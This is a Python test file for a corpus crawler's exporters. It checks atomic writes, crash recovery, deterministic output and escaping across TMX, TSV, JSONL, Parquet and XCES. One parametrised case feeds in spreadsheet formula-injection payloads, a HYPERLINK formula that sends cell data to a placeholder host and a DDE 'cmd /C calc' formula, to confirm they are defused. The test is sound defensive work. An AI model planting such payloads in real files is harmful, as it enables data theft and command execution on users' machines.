"""What holds for every format that a corpus is written in."""

import csv
import errno
import gzip
import hashlib
import json
import re
import sys
import tracemalloc
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import msgspec
import pyarrow.parquet as pq
import pytest

from bitrawl import files
from bitrawl.corpus import CorpusHeader, jsonl
from bitrawl.corpus.export import CorpusFolder, Exporter, export, exporting
from bitrawl.corpus.formats import FORMATS as ALL_FORMATS
from bitrawl.corpus.formats import Format
from bitrawl.corpus.jsonl import DOCUMENTS, TEXTS, parquet
from bitrawl.corpus.plain_text import moses, text, tsv
from bitrawl.corpus.tmx import tmx
from bitrawl.corpus.xces import xces
from bitrawl.errors import ConfigError, DiskFullError, StoreError
from bitrawl.mining import MEASURES
from bitrawl.model import Language, Page, PagePair, Paragraph, Segment, SegmentPair, TranslationUnit, UnitSource
from bitrawl.packages import loaded
from bitrawl.url import Url

BILINGUAL, MONOLINGUAL = ALL_FORMATS.parts(2), ALL_FORMATS.parts(1)
EN_FR = CorpusHeader((Language("en"), Language("fr")), at=1_800_000_000.0)
EN = CorpusHeader((Language("en"),), at=1_800_000_000.0)
XML = "{http://www.w3.org/XML/1998/namespace}"
CES = "{http://www.xces.org/schema/2003}"
HOSTILE = 'a\x00b\x0bc\ud800 ]]> &<>" \u202eabc\u202c \ufffe\uffff\x1f\x85\u2028\ttab\r\nend'
# What is left of it in every format: one line, XML 1.0 characters, bidi marks and markup as they were.
HARMLESS = 'a b c\ufffd ]]> &<>" \u202eabc\u202c \ufffd\ufffd tab end'
ARABIC = "\u200fمرحبا بالعالم، هذا نص من اليمين إلى اليسار."


def url(path: str) -> Url:
    return Url.parse(f"https://www.example.org/{path}")


def unit(a: str, b: str, number: int = 0) -> TranslationUnit:
    pair = SegmentPair(
        url(f"en/{number}"), url(f"fr/{number}"), Segment(a, 2, 5), Segment(b, 3, 6), 0.75, flags=("e-mail address",)
    )
    return TranslationUnit(pair, (UnitSource.of(pair), UnitSource(url("en/other"), url("fr/other"), 7, 8, 9, 10)))


def page(a: str, number: int = 0, language: str = "en") -> Page:
    return Page(url(f"{language}/{number}"), Language(language), title=a, paragraphs=(Paragraph(a), Paragraph("Menu")))


def page_pair(a: str, b: str, number: int = 0) -> PagePair:
    return PagePair(url(f"en/{number}"), url(f"fr/{number}"), Language("en"), Language("fr"), 0.9, {"u": 0.9, "h": 0.5})


def page_of_either(a: str, b: str, number: int = 0) -> Page:
    return page(a, number)


def opened(path: Path) -> bytes:
    return gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()


def lines(path: Path) -> list[str]:
    return opened(path).decode().split("\n")[:-1]


def only(folder: Path, pattern: str) -> Path:
    found = list(folder.glob(pattern))
    assert len(found) == 1, sorted(p.name for p in folder.rglob("*"))
    return found[0]


def read_tmx(folder: Path) -> list[tuple[str, str]]:
    root = ET.fromstring(opened(only(folder, "en-fr.tmx*")))
    return [tuple(tuv.findtext("seg") for tuv in tu.iter("tuv")) for tu in root.iter("tu")]


def read_sentences(folder: Path) -> list[tuple[str, str]]:
    rows = map(json.loads, lines(only(folder, "en-fr.sentences.jsonl*")))
    return [(row["text_a"], row["text_b"]) for row in rows]


def read_tsv(folder: Path) -> list[tuple[str, str]]:
    rows = csv.DictReader(lines(only(folder, "en-fr.tsv*")), delimiter="\t", quoting=csv.QUOTE_NONE)
    cells = [(row["text_a"], row["text_b"]) for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
    # As docs/reference/corpus.md says.
    a, b = ([re.sub(r"^'(?='*[=+@-])", "", row[side]) for row in cells] for side in (0, 1))
    return list(zip(a, b, strict=True))


def read_moses(folder: Path) -> list[tuple[str, str]]:
    a, b, ids = (lines(only(folder, f"en-fr.{ending}*")) for ending in ("en", "fr", "ids"))
    assert len(ids) == len(a)
    return list(zip(a, b, strict=True))


def read_parquet(folder: Path) -> list[tuple[str, str]]:
    return [(row["text_a"], row["text_b"]) for row in pq.read_table(only(folder, "en-fr.parquet")).to_pylist()]


def read_documents(folder: Path) -> list[str]:
    return [json.loads(line)["url_a"] for line in lines(only(folder, "en-fr.documents.jsonl*"))]


def read_texts(folder: Path) -> list[str]:
    return [json.loads(line)["url_a"] for line in lines(only(folder, "en-fr.texts.jsonl*"))]


def read_texts_parquet(folder: Path) -> list[str]:
    return [row["url_a"] for row in pq.read_table(only(folder, "en-fr.texts.parquet")).to_pylist()]


def read_pages(folder: Path) -> list[str]:
    return [json.loads(line)["paragraphs"][0]["text"] for line in lines(only(folder, "en.documents.jsonl*"))]


def read_text(folder: Path) -> list[str]:
    documents = opened(only(folder, "en.txt*")).decode().split("\n\n")
    assert len(lines(only(folder, "en.txt*"))) == len(lines(only(folder, "en.ids*")))
    return [document.split("\n")[0] for document in documents if document]


def read_ces_documents(folder: Path) -> list[str]:
    found = [ET.fromstring(opened(path)) for path in (folder / "xces/en-fr").iterdir()]
    found.sort(key=lambda root: root.find(f".//{CES}imprint/{CES}eAddress").text)
    return [root.find(f".//{CES}p").text for root in found]


def read_ces_alignments(folder: Path) -> list[str]:
    return sorted(path.name for path in (folder / "xces/en-fr").iterdir() if ET.fromstring(opened(path)) is not None)


def both(a: str, b: str) -> tuple[str, str]:
    return a, b


def first(a: str, b: str) -> str:
    return a


# exporter, header, an item of two texts, what a foreign reader finds, what of the two texts it should find
FORMATS = {
    "tmx": (tmx, EN_FR, unit, read_tmx, both),
    "sentences": (jsonl.sentences, EN_FR, unit, read_sentences, both),
    "tsv": (tsv, EN_FR, unit, read_tsv, both),
    "moses": (moses, EN_FR, unit, read_moses, both),
    "parquet": (parquet, EN_FR, unit, read_parquet, both),
    "documents": (jsonl.documents, EN_FR, page_pair, read_documents, both),
    "texts": (jsonl.texts, EN_FR, page_pair, read_texts, both),
    "texts in Parquet": (jsonl.texts_parquet, EN_FR, page_pair, read_texts_parquet, both),
    "pages": (jsonl.pages, EN, page_of_either, read_pages, first),
    "text": (text, EN, page_of_either, read_text, first),
    "cesDoc": (xces, EN_FR, page_of_either, read_ces_documents, first),
    "cesAlign": (xces, EN_FR, page_pair, read_ces_alignments, both),
}
Case = tuple[Exporter, CorpusHeader, Callable, Callable, Callable]


@pytest.fixture(params=FORMATS)
def case(request: pytest.FixtureRequest) -> Case:
    return FORMATS[request.param]


def snapshot(folder: Path) -> dict[str, str]:
    found = sorted(path for path in folder.rglob("*") if path.is_file())
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest() for path in found}


def written(folder: Path, case: Case, *texts: tuple[str, str], compress: bool = False) -> list:
    exporter, header, item, read, _ = case
    with exporter(folder, header, compress=compress) as write:
        for number, (a, b) in enumerate(texts):
            write(item(a, b, number))
    return read(folder)


def test_every_format_that_can_be_asked_for_is_under_this_contract():
    tested = {exporter for exporter, *_ in FORMATS.values()}
    assert {
        loaded(p.exporter) for table in (BILINGUAL, MONOLINGUAL) for parts in table.values() for p in parts
    } == tested


@pytest.mark.parametrize("compress", [False, True])
@pytest.mark.parametrize(("header", "table"), [(EN_FR, BILINGUAL), (EN, MONOLINGUAL)])
def test_a_format_writes_what_it_says_and_leaves_nothing_of_another(tmp_path, header, table, compress):
    (tmp_path / "en-fr.notes.txt").write_text("not ours")
    export(tmp_path, header, list(table), [], compress=not compress)
    (tmp_path / header.files([Format.JSONL])[0]).with_suffix(".jsonl.new").write_text("left by a kill")
    for name in table:
        export(tmp_path, header, [name], [], compress=compress)
        found = {str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*")} - {"en-fr.notes.txt", "xces"}
        assert found == set(header.files([name], compress=compress))


@pytest.mark.parametrize("compress", [False, True])
@pytest.mark.parametrize(("header", "table"), [(EN_FR, BILINGUAL), (EN, MONOLINGUAL)])
def test_another_format_is_added_to_those_that_are_there_and_takes_their_place_only_when_asked(
    tmp_path, header, table, compress
):
    first, *_, last = table
    export(tmp_path, header, [first], [], compress=compress)
    assert CorpusFolder(tmp_path).formats([header], [last]) == [first, last]
    assert CorpusFolder(tmp_path).formats([header], [last], only=True) == [last]
    assert CorpusFolder(tmp_path).formats([header], [first]) == [first]
    assert CorpusFolder(tmp_path / "nowhere").formats([header], [last, first, last]) == [last, first]


def test_what_one_of_several_corpora_has_is_written_for_all(tmp_path):
    en_de = CorpusHeader((Language("en"), Language("de")), at=0.0)
    export(tmp_path, en_de, [Format.TMX], [])
    (tmp_path / "en-fr.notes.tsv").write_text("not ours")
    assert CorpusFolder(tmp_path).formats([EN_FR, en_de], [Format.MOSES]) == [Format.TMX, Format.MOSES]
    assert CorpusFolder(tmp_path).formats([EN_FR], [Format.MOSES]) == [Format.MOSES]


def test_sentences_and_parquet_name_the_languages_after_the_columns_that_they_had(tmp_path):
    export(tmp_path, EN_FR, [Format.JSONL, Format.PARQUET], [unit("One here.", "Un ici.")])
    before = "url_a url_b text_a text_b score type flags scores paragraph_a paragraph_b sentence_a sentence_b sources"
    (line,) = map(json.loads, lines(tmp_path / "en-fr.sentences.jsonl"))
    assert list(line) == pq.read_schema(tmp_path / "en-fr.parquet").names == [*before.split(), "lang_a", "lang_b"]
    (columns,) = pq.read_table(tmp_path / "en-fr.parquet").to_pylist()
    assert [(row["lang_a"], row["lang_b"]) for row in (line, columns)] == [("en", "fr")] * 2


def test_a_page_of_one_language_has_the_columns_that_the_card_names(tmp_path):
    export(tmp_path, EN, [Format.JSONL], [page("A text of one.")])
    (line,) = map(json.loads, lines(tmp_path / "en.documents.jsonl"))
    assert list(line) == [column.name for column in DOCUMENTS]
    assert list(line["paragraphs"][0]) == [field.name for c in DOCUMENTS for field in c.fields]


@pytest.mark.parametrize("compress", [False, True])
def test_a_page_pair_has_its_texts_and_the_units_of_its_paragraphs_in_json_and_in_parquet(tmp_path, compress):
    """One unit stands in two places of a pair and in one of another, a pair has no unit, a page is not there any more."""
    pages = {
        name: Page(url(f"{name}/{number}"), Language(name), title=f"{name} {number}", paragraphs=paragraphs)
        for number, name in enumerate(("en", "fr"))
        for paragraphs in [
            tuple(Paragraph(f"{name} {n}", boilerplate=n == 1, language=Language(name)) for n in range(4))
        ]
    }
    en, fr = pages["en"].url, pages["fr"].url
    pairs = [PagePair(en, fr, Language("en"), Language("fr"), 0.9, {"u": 0.9}, partial=True), page_pair("", "", 7)]

    def found(*places: UnitSource) -> TranslationUnit:
        pair = SegmentPair(en, fr, Segment("a", 2, 5), Segment("b", 3, 6), 0.75)
        return TranslationUnit(pair, places)

    other = UnitSource(url("en/9"), url("fr/9"), 0, 0, 0, 0)
    units = [
        found(UnitSource(en, fr, 2, 3, 7, 7), UnitSource(en, fr, 0, 0, 1, 1), other),
        found(UnitSource(en, fr, 0, 0, 0, 0)),
    ]
    items = [*pairs, page_pair("", "", 9), *pages.values(), *units]
    export(tmp_path, EN_FR, [Format.DOCUMENTS, Format.DOCUMENTS_PARQUET], items, compress=compress)
    rows = list(map(json.loads, lines(only(tmp_path, "en-fr.texts.jsonl*"))))
    assert rows == pq.read_table(tmp_path / "en-fr.texts.parquet").to_pylist()
    first, empty, last = rows
    assert list(first) == [column.name for column in TEXTS]
    assert (first["partial"], first["title_b"], empty["partial"]) == (True, "fr 1", False)
    assert [(p["id"], p["text"], p["lang"]) for p in first["paragraphs_a"]] == [
        ("p1", "en 0", "en"), ("p3", "en 2", "en"), ("p4", "en 3", "en")
    ]  # fmt: skip
    assert first["links"] == [
        {"paragraph_a": "p1", "paragraph_b": "p1", "units": [2, 1]},
        {"paragraph_a": "p3", "paragraph_b": "p4", "units": [1]},
    ]
    assert (empty["links"], empty["paragraphs_a"]) == ([], [])
    assert last["links"] == [{"paragraph_a": "p1", "paragraph_b": "p1", "units": [1]}]


def test_parquet_has_each_measure_as_a_number_or_nothing(tmp_path):
    one = unit("One here.", "Un ici.")
    measured = msgspec.structs.replace(one.pair, scores={"length_ratio": 0.5, "words_a": 2.0})
    export(tmp_path, EN_FR, [Format.PARQUET], [msgspec.structs.replace(one, pair=measured)])
    (columns,) = pq.read_table(tmp_path / "en-fr.parquet").to_pylist()
    assert columns["scores"] == dict.fromkeys(MEASURES) | measured.scores


def test_a_measure_has_one_name_and_one_value_in_every_format(tmp_path):
    one = unit("Adults pay five.", "Les adultes paient cinq.")
    scores = dict(zip(MEASURES, (2 / 3, 0.9, 0.8, 1 / 7, 0.5, 3.0, 4.0, 0.12345678), strict=True))
    pair = msgspec.structs.replace(one.pair, score=0.98765, type="1:2", flags=("url", "code"), scores=scores)
    formats = [Format.JSONL, Format.PARQUET, Format.TSV, Format.TMX]
    export(tmp_path, EN_FR, formats, [msgspec.structs.replace(one, pair=pair)])
    (line,) = map(json.loads, lines(tmp_path / "en-fr.sentences.jsonl"))
    (columns,) = pq.read_table(tmp_path / "en-fr.parquet").to_pylist()
    (cells,) = csv.DictReader(lines(tmp_path / "en-fr.tsv"), delimiter="\t", quoting=csv.QUOTE_NONE)
    properties = {p.get("type"): p.text for p in ET.fromstring(opened(tmp_path / "en-fr.tmx")).findall("body/tu/prop")}
    assert columns == line
    values = line | line["scores"] | {"flags": "url | code", "occurrences": 2}
    assert set(cells) | set(properties) <= set(values)
    for names in (cells, properties):
        assert {name: type(values[name])(text) for name, text in names.items()} == {n: values[n] for n in names}


@pytest.mark.parametrize("compress", [False, True])
def test_every_page_that_a_pair_names_is_there(tmp_path, compress):
    items = [*(page_pair("", "", n) for n in range(3)), *(page("A text.", n) for n in range(3))]
    items += [page("Un texte.", n, "fr") for n in range(3)]
    export(tmp_path, EN_FR, [Format.XCES], items, compress=compress)
    folder = tmp_path / "xces/en-fr"
    roots = [ET.fromstring(opened(path)) for path in folder.glob("*_*")]
    named = [side.get("trans.loc") for root in roots for side in root.iter(f"{CES}translation")]
    assert len(named) == 6
    assert all((folder / name).exists() for name in named)


@pytest.mark.parametrize("compress", [False, True])
@pytest.mark.parametrize(
    ("texts", "found"),
    [
        (("One sentence here.", "Une phrase ici."), None),
        ((HOSTILE, HOSTILE), (HARMLESS, HARMLESS)),
        ((ARABIC, "שלום עולם \u2066abc\u2069"), None),
        (("x" * 2_000_000 + " y z", "א" * 2_000_000 + " y z"), None),
        (('"quoted" \\n \\t', "'=1+1' «a\u00a0b»"), None),
        (('=HYPERLINK("http://x.test/"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"), None),
        (("+49 30 1234", "'-5 °C"), None),
    ],
    ids=["plain", "hostile", "right-to-left", "huge", "quotes", "formulas", "numbers"],
)
def test_a_reader_that_is_not_ours_finds_what_was_written(tmp_path, case, texts, found, compress):
    csv.field_size_limit(1 << 30)
    read = written(tmp_path, case, texts, ("And another.", "Et une autre."), compress=compress)
    wanted = [case[4](*(found or texts)), case[4]("And another.", "Et une autre.")]
    assert read == wanted if case[2] is not page_pair else len(read) == 2


@pytest.mark.parametrize("compress", [False, True])
def test_an_empty_corpus_is_a_valid_file(tmp_path, case, compress):
    assert written(tmp_path, case, compress=compress) == []


@pytest.mark.parametrize("compress", [False, True])
def test_writing_again_replaces_all_and_the_same_content_gives_the_same_bytes(tmp_path, case, compress):
    written(tmp_path, case, ("A text of one.", "Un texte."), ("A text of two.", "Deux textes."), compress=compress)
    before = snapshot(tmp_path)
    written(tmp_path, case, ("Something else.", "Autre chose."), compress=compress)
    assert snapshot(tmp_path) != before
    written(tmp_path, case, ("A text of one.", "Un texte."), ("A text of two.", "Deux textes."), compress=compress)
    assert snapshot(tmp_path) == before


def test_nothing_is_seen_before_the_end(tmp_path, case):
    written(tmp_path, case, ("The first text.", "Le premier texte."))
    before = snapshot(tmp_path)
    exporter, header, item, *_ = case
    with exporter(tmp_path, header) as write:
        write(item("The second text.", "Le second texte.", 1))
        assert {name: snapshot(tmp_path)[name] for name in before} == before


@pytest.mark.parametrize("fault", [RuntimeError("a bug"), KeyboardInterrupt()])
def test_a_failure_leaves_what_stood_there_and_nothing_else(tmp_path, case, fault):
    written(tmp_path, case, ("The first text.", "Le premier texte."))
    before = snapshot(tmp_path)
    exporter, header, item, *_ = case

    def fail() -> None:
        with exporter(tmp_path, header) as write:
            write(item("The second text.", "Le second texte.", 1))
            raise fault

    with pytest.raises(type(fault)):
        fail()
    assert snapshot(tmp_path) == before


def test_a_killed_export_is_no_obstacle_to_the_next(tmp_path, case):
    exporter, header, item, *_ = case
    killed = exporter(tmp_path, header)
    write = killed.__enter__()
    write(item("Never finished.", "Jamais fini.", 7))
    found = written(tmp_path, case, ("The first text.", "Le premier texte."))
    assert len(found) == 1
    killed.__exit__(RuntimeError, RuntimeError("only now, for the open files"), None)


def test_a_folder_that_cannot_be_written_is_a_store_error(tmp_path, case):
    (tmp_path / "file").write_text("not a folder")
    with pytest.raises(StoreError, match="cannot be written"):
        written(tmp_path / "file" / "corpus", case, ("A text.", "Un texte."))


def test_a_full_disk_is_named_and_leaves_no_draft(tmp_path, case, monkeypatch):
    def full(self: Path, target: Path) -> Path:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.Path, "replace", full)
    with pytest.raises(DiskFullError, match="free some"):
        written(tmp_path, case, ("A text.", "Un texte."))
    assert snapshot(tmp_path) == {}


def test_nothing_written_is_kept_in_memory(tmp_path, case, monkeypatch):
    monkeypatch.setattr("bitrawl.corpus.jsonl.GROUP", 50)  # which is kept, and larger than this corpus
    exporter, header, item, *_ = case
    long = "Atextwithoutspaces" * 500 + " of words"
    with exporter(tmp_path, header) as write:
        write(item(long, long, 0))  # what is loaded at first use
        # Servers of other tests may run in threads of this process: what they allocate meanwhile only adds.
        kept = min(_kept_by(lambda: [write(item(long, long, number % 10)) for number in range(150)]) for _ in range(3))
    assert kept < 800_000 < 150 * len(long)


def _kept_by(work: Callable[[], object]) -> int:
    tracemalloc.start()
    work()
    kept = tracemalloc.get_traced_memory()[0]
    tracemalloc.stop()
    return kept


def test_one_stream_goes_to_the_formats_that_have_a_use_for_each_item(tmp_path):
    items = [
        page_pair("", ""),
        page("English text here."),
        page("Texte français ici.", language="fr"),
        unit("a b", "c d"),
    ]
    export(tmp_path, EN_FR, list(BILINGUAL), items)
    assert (
        read_tmx(tmp_path) == read_sentences(tmp_path) == read_tsv(tmp_path) == read_moses(tmp_path) == [("a b", "c d")]
    )
    assert len(read_documents(tmp_path)) == 1
    assert len(list((tmp_path / "xces/en-fr").iterdir())) == 3


def broken():
    yield unit("a b", "c d")
    raise RuntimeError


def test_what_cannot_be_read_to_its_end_replaces_nothing_in_any_format(tmp_path):
    with pytest.raises(RuntimeError):
        export(tmp_path, EN_FR, list(BILINGUAL), broken())
    assert snapshot(tmp_path) == {}


@pytest.mark.parametrize(("header", "name"), [(EN, Format.TMX), (EN_FR, Format.TEXT)])
def test_a_format_for_another_number_of_languages_is_refused_by_name(tmp_path, header, name):
    with (
        pytest.raises(ConfigError, match=f"{name} is not a format for {header.name}; choose from"),
        exporting(tmp_path, header, [name]),
    ):
        pass


def test_without_pyarrow_the_error_names_the_extra(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ConfigError, match=r"install .*'bitrawl\[parquet\]'"):
        export(tmp_path, EN_FR, [Format.TMX, Format.PARQUET], [unit("a b", "c d")])
    assert snapshot(tmp_path) == {}


def test_a_kill_between_the_two_renames_of_a_folder_is_repaired_by_the_next_export(tmp_path):
    written(tmp_path, FORMATS["cesDoc"], ("The first text here.", "Le premier texte."))
    before = snapshot(tmp_path)
    (tmp_path / "xces/en-fr").rename(tmp_path / "xces/en-fr.old")
    with pytest.raises(RuntimeError):
        export(tmp_path, EN_FR, [Format.XCES], broken())
    assert snapshot(tmp_path) == before
